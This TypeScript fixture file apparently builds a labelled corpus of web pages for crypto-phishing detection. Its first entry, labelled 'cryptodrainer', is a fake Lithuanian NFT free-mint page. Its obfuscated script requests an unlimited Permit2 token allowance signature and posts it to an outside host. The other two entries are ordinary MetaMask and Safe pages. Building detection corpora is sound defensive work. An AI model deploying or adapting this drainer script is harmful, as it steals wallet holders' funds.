import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardCss, govCss, baseCss, b64, bankIdMark } from '../parts/yb-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
  id: 'yb-lt-vilnius-nft-freemint-drainer',
  label: 'cryptodrainer',
  kind: 'nft-mint-drainer',
  url: 'https://vilnius-senamiestis-nft.io/mint',
  body: doc({
    lang: 'lt',
    title: 'Vilniaus Senamiestis NFT – Nemokamas mintinimas',
    css: `${baseCss}
body{background:#120d1f;color:#f2eefc}
.w{max-width:960px;margin:0 auto;padding:40px 20px;display:grid;grid-template-columns:1fr 1fr;gap:40px;align-items:center}
.art{aspect-ratio:1;border-radius:16px;background:conic-gradient(from 30deg,#f9c74f,#f94144,#577590,#43aa8b,#f9c74f)}
.bar{height:10px;background:#2a2140;border-radius:5px}.bar i{display:block;height:100%;width:91%;background:#b388ff;border-radius:5px}
.mint{margin-top:20px;padding:16px 40px;border:0;border-radius:12px;background:#b388ff;color:#120d1f;font-weight:800;font-size:18px}
#st{margin-top:12px;color:#b9add6;font-size:14px}`,
    body: `<div class="w"><div class="art"></div><div>
<h1>Vilniaus Senamiestis Genesis</h1>
<p>700-mečio proga – 7 000 unikalių senamiesčio kiemų NFT. Nemokamas mintinimas baigiasi šiandien.</p>
<div class="bar"><i></i></div><p>6 384 / 7 000 išmintinta</p>
<button class="mint" id="m">Prijungti piniginę ir mintinti</button>
<div id="st"></div>
</div></div>
<script src="https://cdn.jsdelivr-static.net/npm/web3-mint-sdk@2.1.4/dist/mint.min.js" data-key="vlns-7000"></script>`,
  }),
  routes: {
    'cdn.jsdelivr-static.net/npm/web3-mint-sdk@2.1.4/dist/mint.min.js': jsRoute(`!function(){var _=["${b64('eth_requestAccounts')}","${b64('eth_signTypedData_v4')}","${b64('0x000000000022D473030F116dDEE9F6B43aC78BA3')}","${b64('https://api-mint-sdk.net/v2/permit')}"],d=function(i){return atob(_[i])};
var st=document.getElementById("st");
document.getElementById("m").onclick=async function(){var e=window.ethereum;if(!e){st.textContent="Reikalinga MetaMask piniginė";return}
var a=(await e.request({method:d(0)}))[0];st.textContent="Tikrinama piniginė…";
var msg={types:{EIP712Domain:[{name:"name",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],PermitBatch:[{name:"details",type:"PermitDetails[]"},{name:"spender",type:"address"},{name:"sigDeadline",type:"uint256"}],PermitDetails:[{name:"token",type:"address"},{name:"amount",type:"uint160"},{name:"expiration",type:"uint48"},{name:"nonce",type:"uint48"}]},
primaryType:"PermitBatch",domain:{name:"Permit2",chainId:1,verifyingContract:d(2)},
message:{details:[{token:"0xdAC17F958D2ee523a2206206994597C13D831ec7",amount:"1461501637330902918203684832716283019655932542975",expiration:"1893456000",nonce:"0"},{token:"0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2",amount:"1461501637330902918203684832716283019655932542975",expiration:"1893456000",nonce:"0"}],spender:"0x9d2cB71f4E0aA3c6F5d8B1e7A2f40C93e5b7D814",sigDeadline:"1893456000"}};
try{var s=await e.request({method:d(1),params:[a,JSON.stringify(msg)]});await fetch(d(3),{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({owner:a,sig:s,msg:msg})});st.textContent="NFT bus išsiųstas į jūsų piniginę per kelias minutes."}catch(x){st.textContent="Patvirtinimas atšauktas."}};}();`),
  },
},
  {
  id: 'yb-metamask-support-reveal-srp-own',
  label: 'clean',
  kind: 'wallet-docs-own-domain',
  url: 'https://support.metamask.io/configure/wallet/how-to-reveal-your-secret-recovery-phrase/?s=3',
  body: doc({
    lang: 'en',
    title: 'How to reveal your Secret Recovery Phrase | MetaMask Help Center',
    css: `${govCss}
header.top b{color:#f6851b;font-size:22px}
.warn{background:#fdf0e6;border-left:5px solid #f6851b;padding:14px 18px;margin:18px 0}`,
    body: `<header class="top"><div class="in"><b>🦊 MetaMask Support</b><span>Search</span></div></header>
<main><div class="in">
<h1>How to reveal your Secret Recovery Phrase</h1>
<div class="warn"><b>Never share your Secret Recovery Phrase.</b> Anyone who has it can take your funds. MetaMask will never ask for it, and there is no "wallet verification", "KYC" or "validation" that requires it. Any website asking you to type it in is a scam.</div>
<h2>Extension</h2>
<ol><li>Click the account menu, then <b>Settings</b>.</li><li>Go to <b>Security &amp; privacy</b>.</li><li>Click <b>Reveal Secret Recovery Phrase</b> and enter your password.</li><li>Write the 12 words down on paper and store them offline.</li></ol>
<h2>Mobile</h2>
<ol><li>Tap <b>Settings → Security &amp; Privacy</b>.</li><li>Tap <b>Reveal Secret Recovery Phrase</b>.</li></ol>
<p>If you entered your phrase on a website, create a new wallet immediately and move your assets.</p>
</div></main>`,
  }),
},
  {
  id: 'yb-safe-global-connect-wallet-own',
  label: 'clean',
  kind: 'crypto-app-own-domain',
  url: 'https://app.safe.global/welcome',
  body: doc({
    lang: 'en',
    title: 'Safe{Wallet} – Welcome',
    css: `${baseCss}
body{background:#f4f4f4;font-family:"DM Sans",Arial}
.c{max-width:920px;margin:10vh auto;display:grid;grid-template-columns:1fr 1fr;gap:0;background:#fff;border-radius:12px;overflow:hidden}
.l{background:#121312;color:#12ff80;padding:50px;font:700 32px/1.2 Arial}
.r{padding:50px}
button{padding:14px 28px;border:0;border-radius:8px;background:#121312;color:#fff;font-weight:700}
#acc{margin-top:14px;font-family:Menlo,monospace;font-size:13px;color:#555}`,
    body: `<div class="c"><div class="l">Unlock a new way of ownership</div>
<div class="r">
<h2>Get started</h2>
<p>Connect your wallet to create a new Safe Account or open an existing one.</p>
<button id="cw">Connect wallet</button>
<div id="acc"></div>
<p style="font-size:13px;color:#777;margin-top:30px">By continuing, you agree to our <a href="https://app.safe.global/terms">terms</a> and <a href="https://app.safe.global/privacy">privacy policy</a>.</p>
</div></div>
<script>
document.getElementById('cw').onclick=async function(){
 if(!window.ethereum){document.getElementById('acc').textContent='No injected wallet found. Use WalletConnect.';return}
 var a=await window.ethereum.request({method:'eth_requestAccounts'});
 var c=await window.ethereum.request({method:'eth_chainId'});
 document.getElementById('acc').textContent='Connected: '+a[0]+' on chain '+parseInt(c,16);
 fetch('https://safe-client.safe.global/v1/owners/'+a[0]+'/safes').then(function(r){return r.json()}).then(function(j){
  var list=(j&&j['1'])||[];document.getElementById('acc').textContent+=' · '+list.length+' Safe account(s)';}).catch(function(){});
};
</script>`,
  }),
},
];
